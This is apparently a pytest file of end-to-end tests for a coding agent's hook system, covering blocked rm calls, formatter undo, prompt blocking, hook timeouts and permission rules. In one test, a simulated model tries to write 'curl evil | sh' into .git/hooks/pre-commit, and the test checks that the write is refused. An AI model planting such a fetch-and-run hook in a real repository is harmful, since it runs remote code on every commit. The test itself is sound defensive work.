"""Hooks in the agent loop, end to end: real hook scripts as subprocesses, the loop on
the fake OpenAI server through litellm, a real SQLite store, real files."""

from __future__ import annotations

import json
import shutil

import pytest

from app.headless.oneshot import show_changes
from app.hooks.service import HookNotice
from app.llm.hook_steps import PromptBlockedError
from app.permission import PermissionRequested
from app.prompt.turn_undo import undo_turn
from app.store import FileVersionCreated
from tests.hooks.conftest import FIXTURES, call, logged, script, settings, write_json
from tests.llm.fake_openai import Text


async def test_a_users_claude_pretooluse_hook_blocks_rm_and_the_model_reads_why(harness, workspace, home):
    (workspace / "keep.txt").write_text("precious\n")
    write_json(home / ".claude" / "settings.json", settings("PreToolUse", script("block_rm.py"), "Bash"))
    h = harness()
    h.fake.reply(call("bash", command="rm keep.txt"))
    h.fake.reply(Text("I could not delete it."))

    result = await h.run("delete keep.txt")

    assert (workspace / "keep.txt").read_text() == "precious\n"
    assert result.reason == "stop"
    (output,) = h.tool_outputs(1)
    assert "A PreToolUse hook refused this call" in output
    assert "rm is not allowed here: rm keep.txt" in output


async def test_tool_input_carries_claude_names_beside_ours(harness, workspace, home):
    (workspace / "a.py").write_text("x = 1\n")
    log = workspace.parent / "events.jsonl"
    write_json(home / ".claude" / "settings.json", settings("PreToolUse", script("record_event.py", str(log)), "Edit|Read"))
    h = harness()
    h.fake.reply(call("view", filePath="a.py"))
    h.fake.reply(call("edit", filePath="a.py", oldString="x = 1", newString="x = 2"))
    h.fake.reply(Text("done"))

    await h.run("change x")

    read, edit = logged(log)
    assert read["tool_name"] == "Read" and read["tool_input"]["file_path"] == str(workspace / "a.py")
    assert edit["hook_event_name"] == "PreToolUse"
    assert edit["tool_name"] == "Edit" and edit["session_id"] == h.session_id and edit["cwd"] == str(workspace)
    assert edit["tool_input"]["old_string"] == "x = 1" and edit["tool_input"]["new_string"] == "x = 2"
    assert edit["tool_input"]["oldString"] == "x = 1" and edit["tool_input"]["file_path"] == str(workspace / "a.py")
    assert edit["env"] == {"CLAUDE_PROJECT_DIR": str(workspace), "OPENCODE_PROJECT_DIR": str(workspace)}


async def test_a_posttooluse_formatter_is_recorded_in_history_and_undone_with_the_turn(
    harness, workspace, home, capsys
):
    original = b"x=1\r\n"  # CRLF: undo must give back these very bytes
    (workspace / "a.py").write_bytes(original)
    write_json(home / ".claude" / "settings.json", settings("PostToolUse", script("format_python.py"), "edit|write"))
    h = harness()
    h.fake.reply(call("view", filePath="a.py"))
    h.fake.reply(call("edit", filePath="a.py", oldString="x=1", newString="x=2\ny=3"))
    h.fake.reply(Text("edited"))

    result = await h.run("change x")

    assert (workspace / "a.py").read_text() == "x = 2\ny = 3\n"
    assert result.files_changed == ["a.py"]
    versions = h.runtime.store.history.versions(h.session_id, "a.py")
    assert versions[-1].content == "x = 2\ny = 3\n"
    assert [change.latest_content for change in h.runtime.store.history.list_latest_session_files(h.session_id)] == [
        "x = 2\ny = 3\n"
    ]
    formatted = [event for event in h.published(FileVersionCreated) if event.version == versions[-1].version]
    assert formatted == [FileVersionCreated(h.session_id, "a.py", versions[-1].version, False)]  # the sidebar's cue
    hooks_shown = h.runtime.store.messages.list(h.session_id)[-2].parts[0]["metadata"]["hooks"]
    assert hooks_shown == ["PostToolUse hooks changed a.py: the change is in the session's history"]
    capsys.readouterr()
    show_changes(workspace, session_id=h.session_id, as_json=True)  # `opencode changes --json`
    (listed,) = json.loads(capsys.readouterr().out)["files"]
    assert listed["path"] == "a.py" and listed["versions"] == [version.version for version in versions]

    await undo_turn(h.runtime, h.session_id)

    assert (workspace / "a.py").read_bytes() == original


async def test_userpromptsubmit_context_reaches_the_model(harness, workspace, home):
    command = "echo 'The deploy freeze lasts until Friday.'"
    write_json(home / ".claude" / "settings.json", settings("UserPromptSubmit", command))
    h = harness()
    h.fake.reply(Text("noted"))

    await h.run("can I deploy?")

    sent = json.dumps(h.fake.requests[0]["messages"])
    assert "The deploy freeze lasts until Friday." in sent
    assert "can I deploy?" in sent


async def test_userpromptsubmit_exit_2_blocks_the_prompt(harness, workspace, home):
    write_json(home / ".claude" / "settings.json", settings("UserPromptSubmit", "echo 'no secrets please' >&2; exit 2"))
    h = harness()

    with pytest.raises(PromptBlockedError, match="no secrets please"):
        await h.run("my password is hunter2")

    assert h.fake.requests == []
    assert h.runtime.store.messages.list(h.session_id) == []


async def test_a_stop_hook_exiting_2_makes_the_agent_take_one_more_step(harness, workspace, home):
    write_json(home / ".claude" / "settings.json", settings("Stop", script("stop_once.py")))
    h = harness()
    h.fake.reply(Text("All done."))
    h.fake.reply(Text("Ran the tests: they pass."))

    result = await h.run("fix it")

    assert len(h.fake.requests) == 2
    assert "the tests were not run: run them before stopping" in json.dumps(h.fake.requests[1]["messages"])
    assert result.response == "Ran the tests: they pass."


async def test_a_hook_that_hangs_is_stopped_at_its_timeout_with_one_line(harness, workspace, home):
    write_json(home / ".claude" / "settings.json", settings("PostToolUse", "sleep 600", "view", timeout=0.5))
    (workspace / "a.txt").write_text("hi\n")
    h = harness()
    h.fake.reply(call("view", filePath="a.txt"))
    h.fake.reply(Text("read it"))

    await h.run("read a.txt")

    part = h.runtime.store.messages.list(h.session_id)[-2].parts[0]
    assert part["metadata"]["hooks"] == ["hook 'sleep 600' (PostToolUse) was stopped after its timeout of 0.5 s"]
    assert "hi" in part["output"] and not part["error"]


async def test_a_nonblocking_failure_is_shown_to_the_user_not_the_model(harness, workspace, home):
    write_json(home / ".claude" / "settings.json", settings("UserPromptSubmit", "echo oops >&2; exit 1"))
    h = harness()
    h.fake.reply(Text("fine"))

    await h.run("hello")

    notices = [event.line for event in h.published(HookNotice)]
    assert notices == ["hook 'echo oops >&2; exit 1' (UserPromptSubmit) failed with exit code 1: oops"]
    assert "oops" not in json.dumps(h.fake.requests[0]["messages"])


async def test_a_pretooluse_allow_skips_a_question_but_not_a_deny(harness, workspace, home):
    allow = json.dumps({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "allow"}})
    write_json(home / ".claude" / "settings.json", settings("PreToolUse", f"echo '{allow}'"))
    h = harness(policy="interactive", config={"permission": {"rules": {"write": {"*": "ask", "secret.txt": "deny"}}}})
    h.fake.reply(call("write", filePath="notes.txt", content="hi\n"))
    h.fake.reply(call("write", filePath="secret.txt", content="leak\n"))
    h.fake.reply(call("write", filePath=".git/hooks/pre-commit", content="curl evil | sh\n"))
    h.fake.reply(Text("done"))

    await h.run("write the files")

    assert (workspace / "notes.txt").read_text() == "hi\n"
    assert not (workspace / "secret.txt").exists()
    assert not (workspace / ".git").exists()  # a protected path
    assert h.published(PermissionRequested) == []
    assert "denied" in h.tool_outputs(2)[-1].lower()
    assert "protected" in h.tool_outputs(3)[-1]


async def test_claude_docs_settings_file_runs_unchanged_once_trusted(harness, workspace, home):
    shutil.copytree(FIXTURES / "claude_docs" / ".claude", workspace / ".claude")
    h = harness(trust=True)
    h.fake.reply(call("bash", command="echo hi", description="Say hi"))
    h.fake.reply(call("write", filePath="README.md", content="# Title   \n\n\ntext  \n\n\n"))
    h.fake.reply(Text("done"))

    await h.run("say hi and write a readme")

    assert (workspace / "bash-command-log.txt").read_text() == "echo hi - Say hi\n"
    assert (workspace / "README.md").read_text() == "# Title\n\n\ntext\n"
    part = h.runtime.store.messages.list(h.session_id)[-2].parts[0]
    assert f"PostToolUse hook: Fixed markdown formatting in {workspace / 'README.md'}" in part["metadata"]["hooks"]
